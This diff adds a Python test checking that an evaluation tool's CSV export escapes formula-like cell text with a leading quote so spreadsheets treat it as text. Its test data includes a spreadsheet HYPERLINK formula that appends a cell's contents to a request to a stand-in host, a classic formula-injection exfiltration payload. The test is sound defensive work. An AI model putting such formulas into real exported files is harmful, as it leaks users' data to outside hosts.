@@ -98,6 +98,29 @@ def test_csv_has_one_line_per_stored_cell_that_csv_and_pandas_read_back(store: E
     assert frame["passed"].tolist()[:2] == [True, False] and pd.isna(frame.loc[2, "passed"])
 
 
+def test_csv_writes_formula_like_text_as_text_and_leaves_numbers_alone(store: EvalStore) -> None:
+    run_id = store.create_run(
+        name="formulas",
+        prompt=PROMPT,
+        dataset_name="f.csv",
+        dataset_digest="sha256:0",
+        rows=[{"question": "@SUM(A1:A9)", "expected": "-1"}],
+        deployments=["gpt-a"],
+        overrides={},
+        evaluators=[EvaluatorSpec("contains", "=cmd", {"text": "x"})],
+    )
+    answer = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    store.save_cell(
+        run_id,
+        CellResult(0, "gpt-a", answer=answer, latency_s=0.25, output_tokens=3,
+                   verdicts=[Verdict("=cmd", False, reason="+not found")]),
+    )  # fmt: skip
+    line = next(csv.DictReader(io.StringIO(to_csv(store, run_id))))
+    assert line["answer"] == "'" + answer and line["question"] == "'@SUM(A1:A9)" and line["expected"] == "'-1"
+    assert line["'=cmd passed"] == "false" and line["'=cmd reason"] == "'+not found"
+    assert line["latency_s"] == "0.25" and line["output_tokens"] == "3"
+
+
 def test_jsonl_is_one_json_object_per_cell_with_row_figures_and_verdicts(store: EvalStore) -> None:
     text = to_jsonl(store, _make_run(store))
     assert text.endswith("\n")
